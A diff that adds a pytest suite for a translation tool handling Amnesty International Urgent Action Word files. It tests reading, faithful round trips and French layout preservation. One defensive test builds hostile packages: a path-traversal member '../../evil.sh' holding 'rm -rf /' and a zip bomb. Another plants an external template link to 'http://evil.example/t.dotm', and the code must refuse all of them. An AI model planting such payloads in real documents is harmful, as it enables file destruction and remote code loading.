@@ -1,0 +1,191 @@
+"""Word UAs: reading, a faithful round trip, translations in the author's layout,
+and packages that must be refused."""
+
+from __future__ import annotations
+
+import io
+import shutil
+import zipfile
+from pathlib import Path
+
+import docx
+import pytest
+from conftest import REPO
+from docx.text.hyperlink import Hyperlink
+from docx_ua import LINK, make_ua_docx
+
+from uai18n.errors import UserError
+from uai18n.localize import localize
+from uai18n.model import LineKind, Role
+from uai18n.pofiles import read_catalog, write_catalog
+from uai18n.readers.docx import check_package, read_docx
+from uai18n.writers.docx import render_docx
+
+DOC = "ua-6-19-lawyers"
+
+
+@pytest.fixture
+def source(tmp_path: Path) -> Path:
+    return make_ua_docx(tmp_path / f"{DOC}.docx")
+
+
+@pytest.fixture
+def docx_project(tmp_path: Path) -> Path:
+    root = tmp_path / "project"
+    (root / "source").mkdir(parents=True)
+    shutil.copy(REPO / "uai18n.toml", root / "uai18n.toml")
+    make_ua_docx(root / "source" / f"{DOC}.docx")
+    return root
+
+
+def _read(path: Path):
+    return read_docx(path.read_bytes(), doc_id=DOC, source_path=str(path), language="en")
+
+
+def _layout(path_or_bytes) -> list[tuple]:  # type: ignore[no-untyped-def]
+    """Per paragraph: style, and runs merged by formatting (Word splits at will)."""
+    data = path_or_bytes.read_bytes() if isinstance(path_or_bytes, Path) else path_or_bytes
+    document = docx.Document(io.BytesIO(data))
+    layout = []
+    for paragraph in document.paragraphs:
+        runs: list[list] = []
+        for item in paragraph.iter_inner_content():
+            if isinstance(item, Hyperlink):
+                runs.append(["link", item.url, item.text])
+                continue
+            key = (bool(item.bold), bool(item.italic))
+            if runs and runs[-1][0] == key:
+                runs[-1][1] += item.text
+            else:
+                runs.append([key, item.text])
+        layout.append((paragraph.style.name, [tuple(run) for run in runs]))
+    return layout
+
+
+def test_reading_a_word_ua(source: Path) -> None:
+    document = _read(source)
+    roles = [block.role for block in document.blocks]
+    assert roles[:5] == [Role.BANNER, Role.TITLE, Role.SUMMARY, Role.CALL_TO_ACTION, Role.ADDRESSEE]
+    texts = [segment.text for segment in document.segments()]
+    assert "Lawyers <b>Mahmoud Farid</b> and Hoda Nasr were arrested on 2 February 2019." in texts
+    linked = [segment for segment in document.segments() if segment.links]
+    assert [(s.text.split("<a1>")[1].split("</a1>")[0], s.links) for s in linked] == [
+        ("a report by Amnesty International", (LINK,))
+    ]
+    addressee = next(block for block in document.blocks if block.role is Role.ADDRESSEE)
+    names = [line.verbatim for line in addressee.lines if line.kind is LineKind.NAME]
+    assert names == ["Counsellor Hamada al-Sawy", "Mohamed Abdelghaffar"]  # two addressees
+    assert {line.line for line in addressee.lines} == {5, 6}  # two paragraphs, line breaks
+
+
+def test_an_empty_catalogue_gives_back_the_source(source: Path) -> None:
+    document = _read(source)
+    localized = localize(document, "en", {}.get, variable_locale=None)
+    localized = type(localized)(**{**localized.__dict__, "source_file": str(source)})
+    built = render_docx(localized)
+    assert _layout(built) == _layout(source)  # same paragraphs, styles, runs, links
+    rebuilt = docx.Document(io.BytesIO(built))
+    assert rebuilt.sections[0].header.paragraphs[0].text == "Amnesty International — UA 6/19"
+    assert rebuilt.sections[0].footer.paragraphs[0].text == "Index: MDE 12/0001/2019"
+    assert render_docx(localized) == built  # the same bytes every time
+
+
+def test_translations_go_into_the_authors_layout(docx_project: Path, cli) -> None:
+    assert cli("-C", str(docx_project), "run").exit_code == 1  # nothing translated yet
+    po = docx_project / "po/fr" / f"{DOC}.po"
+    catalog = read_catalog(po, "fr")
+    french = {
+        "Dear Counsellor,": "Monsieur le Conseiller,",
+        "I urge you to release them <i>immediately and unconditionally</i>.":
+            "Je vous demande de les libérer <i>immédiatement et sans condition</i>.",
+        "According to <a1>a report by Amnesty International</a1>, they were questioned "
+        "without a lawyer present.":
+            "Selon <a1>un rapport d’Amnesty International</a1>, ils ont été interrogés sans "
+            "avocat.",
+    }  # fmt: skip
+    for entry in catalog:
+        entry.msgstr = french.get(entry.msgid, entry.msgstr)
+    write_catalog(po, catalog)
+    result = cli("-C", str(docx_project), "build", "--lang", "fr", "--draft")
+    assert result.exit_code == 0, result.output
+    built = docx_project / "output/fr" / f"{DOC}.docx"
+    layout = dict(enumerate(_layout(built)))
+    assert layout[6] == ("Normal", [((False, False), "Monsieur le Conseiller,")])
+    assert layout[7][1][1] == ("link", LINK, "un rapport d’Amnesty International")
+    assert layout[8][1] == [
+        ((False, False), "Je vous demande de les libérer "),
+        ((False, True), "immédiatement et sans condition"),
+        ((False, False), "."),
+    ]
+    assert layout[1][0] == "Heading 1" and layout[10][0] == "Heading 2"  # styles kept
+    assert (docx_project / "output/fr" / f"{DOC}.html").exists()  # and the usual formats
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _with(source: Path, name: str, data: bytes) -> bytes:
+    with zipfile.ZipFile(source) as original:
+        members = {member: original.read(member) for member in original.namelist()}
+    members[name] = data
+    return _zip(members)
+
+
+def test_hostile_packages_are_refused(source: Path) -> None:
+    cases = {
+        b"PK\x03\x04 this is not a zip": "not a Word document (.docx is a zip; this is not one)",
+        _zip({"hello.txt": b"hi"}): "not a Word document: no word/document.xml",
+        _with(source, "../../evil.sh", b"rm -rf /"): "part name '../../evil.sh' leaves the package",
+        _with(source, "word/bomb.bin", b"\0" * (30 * 1024 * 1024)): "inflates",
+    }
+    for data, expected in cases.items():
+        with pytest.raises(UserError) as caught:
+            check_package(data, "source/x.docx")
+        assert expected in str(caught.value)
+        assert str(caught.value).startswith("source/x.docx")
+
+
+def test_an_external_template_is_refused(source: Path) -> None:
+    with zipfile.ZipFile(source) as original:
+        rels = (
+            original.read("word/_rels/settings.xml.rels")
+            if "word/_rels/settings.xml.rels" in original.namelist()
+            else None
+        )
+    relationship = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    assert rels is None or b"attachedTemplate" not in rels
+    data = _with(source, "word/_rels/settings.xml.rels", relationship)
+    with pytest.raises(UserError) as caught:
+        check_package(data, "source/x.docx")
+    assert str(caught.value) == (
+        "source/x.docx!word/_rels/settings.xml.rels:2: external relationship "
+        "(attachedTemplate) to 'http://evil.example/t.dotm': refused"
+    )
+
+
+def test_bad_docx_sources_through_the_cli_write_nothing(docx_project: Path, cli) -> None:
+    target = docx_project / "source" / f"{DOC}.docx"
+    target.write_bytes(b"garbage")
+    result = cli("-C", str(docx_project), "run")
+    assert result.exit_code == 2
+    assert result.output == (
+        f"uai18n: source/{DOC}.docx: not a Word document (.docx is a zip; this is not one)\n"
+    )
+    assert not (docx_project / "output").exists() and not (docx_project / "po").exists()
+    plain = docx.Document()
+    plain.add_paragraph("Minutes of the meeting.")
+    plain.save(target)
+    result = cli("-C", str(docx_project), "run")
+    assert result.exit_code == 2
+    assert "not an Urgent Action layout: no the call to action" in result.output
